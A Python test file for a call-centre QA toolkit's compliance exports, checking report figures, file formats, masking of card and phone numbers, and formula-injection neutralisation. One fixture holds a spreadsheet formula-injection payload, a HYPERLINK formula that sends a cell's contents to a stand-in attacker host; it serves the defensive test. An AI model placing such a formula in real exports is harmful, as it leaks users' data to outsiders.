"""Compliance exports: figures by hand, files that open, formulas neutralised, PII masked."""

from __future__ import annotations

import json

import openpyxl
import polars as pl
import pytest

from history_fixtures import FLAT_SCORECARD, built_call
from qa_toolkit.export import (ExportError, calls_report, export, hits_report, matrix_report,
                               neutralise_formulas)
from qa_toolkit.scoring import load_scorecard, scorecard_from_dict
from qa_toolkit.store import Store
from qa_toolkit.types import Outcome

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CARD = "4111 1111 1111 1111"      # passes the Luhn check
MOBILE = "13812345678"
SPOKEN_MOBILE = "幺三八一二三四五六七八"


def hit(rule: str, evidence: str = "00:01 坐席", message: str = "") -> Outcome:
    return Outcome(rule, "hit", "major", 5, message or rule, 1.0, 2.0, "agent", evidence)


@pytest.fixture()
def store(tmp_path):
    calls = [
        built_call("c1", [hit("greeting.missing"), hit("etiquette.jargon")], "A1", "T1",
                   "2026-10-05T09:00:00+08:00"),
        built_call("c2", [], "A1", "T1", "2026-10-06T09:00:00+08:00"),
        built_call("c3", [hit("etiquette.jargon"), hit("etiquette.jargon")], "A1", "T1",
                   "2026-11-02T09:00:00+08:00"),
        built_call("c4", [hit("risk.disclosure_missing")], "A1", "T1",
                   "2026-11-03T09:00:00+08:00"),
        built_call("c5", [], "A2", "+T2", "2026-11-04T09:00:00+08:00"),
        built_call("c6", [hit("greeting.missing",
                              f"00:31 客户: 卡号{CARD}，手机{MOBILE}，备用{SPOKEN_MOBILE}",
                              HOSTILE)], "A2", "+T2", "2026-11-05T09:00:00+08:00"),
    ]
    out = tmp_path / "out"
    (out / "calls").mkdir(parents=True)
    for call in calls:
        (out / "calls" / f"{call.call_id}.json").write_text(
            json.dumps(call.to_dict(), ensure_ascii=False), encoding="utf-8")
    with Store(tmp_path / "h.sqlite") as s:
        s.ingest(out, scorecard_from_dict(FLAT_SCORECARD))
        yield s


def rows(df: pl.DataFrame, key: str) -> dict:
    return {r[key]: r for r in df.iter_rows(named=True)}


def test_hits_per_rule_with_trend(store):
    df = rows(hits_report(store, "rule", "2026-11"), "rule_id")
    assert set(df) == {"greeting.missing", "etiquette.jargon", "risk.disclosure_missing"}
    jargon = df["etiquette.jargon"]
    assert (jargon["calls"], jargon["hits"], jargon["calls_with_hit"]) == (4, 2, 1)
    assert jargon["hits_per_100_calls"] == 50.0 and jargon["share_of_calls_hit"] == 0.25
    assert jargon["prev_hits_per_100_calls"] == 50.0 and jargon["trend_hits_per_100_calls"] == 0
    assert df["greeting.missing"]["trend_hits_per_100_calls"] == -25.0   # 1/2 → 1/4
    assert df["risk.disclosure_missing"]["prev_hits_per_100_calls"] == 0.0
    assert df["risk.disclosure_missing"]["trend_hits_per_100_calls"] == 25.0


def test_hits_by_team_and_period(store):
    teams = rows(hits_report(store, "team", "2026-11"), "team")
    assert teams["T1"]["calls"] == 2 and teams["T1"]["hits_per_100_calls"] == 150.0
    assert teams["+T2"]["calls"] == 2 and teams["+T2"]["hits_per_100_calls"] == 50.0
    periods = rows(hits_report(store, "period"), "period")
    assert periods["2026-10"]["hits_per_100_calls"] == 100.0
    assert periods["2026-11"]["hits_per_100_calls"] == 100.0
    by_rule_team = {(r["rule_id"], r["team"]): r for r in
                    hits_report(store, "rule,team", "2026-11").iter_rows(named=True)}
    assert by_rule_team[("etiquette.jargon", "T1")]["hits_per_100_calls"] == 100.0
    assert by_rule_team[("etiquette.jargon", "+T2")]["hits"] == 0
    assert by_rule_team[("greeting.missing", "+T2")]["share_of_calls_hit"] == 0.5
    assert by_rule_team[("greeting.missing", "+T2")]["trend_hits_per_100_calls"] is None  # new team
    quarter = rows(hits_report(store, "rule", "2026-Q4"), "rule_id")
    assert quarter["etiquette.jargon"]["calls"] == 6 and quarter["etiquette.jargon"]["hits"] == 3


def test_mandated_disclosure_shares_and_dispute(store):
    card = load_scorecard(None)
    november = calls_report(store, "period", "2026-11", card).row(0, named=True)
    assert november["calls"] == 4
    assert november["share_passed_greeting.missing"] == 0.75
    assert november["share_passed_risk.disclosure_missing"] == 0.75
    assert november["share_passed_identity.not_verified"] == 1.0
    assert november["mean_score"] == (90 + 95 + 100 + 95) / 4
    dispute = store.open_dispute("c6", "greeting.missing", "greeted at 00:01", by="A2")
    store.resolve_dispute(dispute, True, by="qa", note="yes")
    november = calls_report(store, "period", "2026-11", card).row(0, named=True)
    assert november["share_passed_greeting.missing"] == 1.0
    assert november["mean_score"] == (90 + 95 + 100 + 100) / 4
    greeting = rows(hits_report(store, "rule", "2026-11"), "rule_id")["greeting.missing"]
    assert greeting["hits"] == 0
    with pytest.raises(ExportError, match="by rule"):
        calls_report(store, "rule")


@pytest.mark.parametrize("what, by", [("hits", None), ("hits", "rule"), ("calls", None),
                                      ("calls", "team"), ("agents", None), ("agents", "team"),
                                      ("matrix", None)])
def test_every_export_opens_in_polars_and_openpyxl(store, tmp_path, what, by):
    frames = {}
    for fmt in ("csv", "parquet", "xlsx"):
        path, n = export(store, what, tmp_path / f"x.{fmt}", by=by)
        assert path.is_file() and n > 0
        frames[fmt] = n
    assert pl.read_parquet(tmp_path / "x.parquet").height == frames["parquet"]
    assert pl.read_csv(tmp_path / "x.csv").height == frames["csv"]
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert sheet.max_row == frames["xlsx"] + 1        # header row


def test_formula_injection_is_neutralised(store, tmp_path):
    export(store, "hits", tmp_path / "hits.csv")
    export(store, "hits", tmp_path / "hits.xlsx")
    export(store, "hits", tmp_path / "hits.parquet")
    csv = pl.read_csv(tmp_path / "hits.csv")
    message = csv.filter(pl.col("call_id") == "c6")["message"][0]
    assert message == "'" + HOSTILE
    assert set(csv["team"]) == {"T1", "'+T2"}
    sheet = openpyxl.load_workbook(tmp_path / "hits.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value == "'" + HOSTILE for c in cells)
    # Parquet is data, not a spreadsheet: values stay as they are.
    parquet = pl.read_parquet(tmp_path / "hits.parquet")
    assert parquet.filter(pl.col("call_id") == "c6")["message"][0] == HOSTILE
    assert neutralise_formulas(pl.DataFrame({"v": ["-1", "@x", "\tx", "\rx", "ok", None]})
                               )["v"].to_list() == ["'-1", "'@x", "'\tx", "'\rx", "ok", None]


def test_pii_is_masked_in_every_format(store, tmp_path):
    digits = (CARD.replace(" ", ""), MOBILE, SPOKEN_MOBILE)
    for fmt in ("csv", "parquet", "xlsx"):
        path, _ = export(store, "hits", tmp_path / f"hits.{fmt}")
        if fmt == "xlsx":
            text = " ".join(str(c.value) for row in openpyxl.load_workbook(path).active.iter_rows()
                            for c in row)
        elif fmt == "csv":
            text = path.read_text(encoding="utf-8-sig")
        else:
            text = " ".join(pl.read_parquet(path)["evidence"].to_list())
        flat = text.replace(" ", "")
        for raw in digits:
            assert raw not in flat, (fmt, raw)
        assert "138****5678" in text and "1111" in text


def test_matrix_export_rejects_team_grouping(store, tmp_path):
    with pytest.raises(ExportError, match="per agent and period"):
        matrix_report(store, "team")
    with pytest.raises(ExportError, match="expected rule, agent, team, business_type or period"):
        hits_report(store, "colour")
    with pytest.raises(ExportError, match="unknown export format 'txt'"):
        export(store, "hits", tmp_path / "x.txt")


def test_hits_by_rule_and_business_type(store):
    # Compliance sees the hit rate per call topic (issue #19): every fixture call is a card call.
    by_type = {(r["rule_id"], r["business_type"]): r for r in
               hits_report(store, "rule,business_type", "2026-11").iter_rows(named=True)}
    jargon = by_type[("etiquette.jargon", "card")]
    assert (jargon["calls"], jargon["hits"], jargon["calls_with_hit"]) == (4, 2, 1)
    card = calls_report(store, "business_type", "2026-11").row(0, named=True)
    assert (card["business_type"], card["calls"]) == ("card", 4)
